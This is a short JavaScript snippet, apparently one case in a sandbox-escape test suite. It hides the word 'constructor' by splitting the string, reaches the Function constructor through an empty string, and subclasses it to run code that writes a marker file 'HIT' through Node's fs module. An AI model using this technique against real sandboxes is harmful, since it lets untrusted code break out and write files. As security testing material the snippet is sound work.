// a class that inherits from a lookup
const k=['constr','uctor'].join('');
let x=''; x=x[k]; class C extends x[k] { constructor(){ super('process.getBuiltinModule("fs").writeFileSync("HIT","heritage2")') } } const c = new C; c()
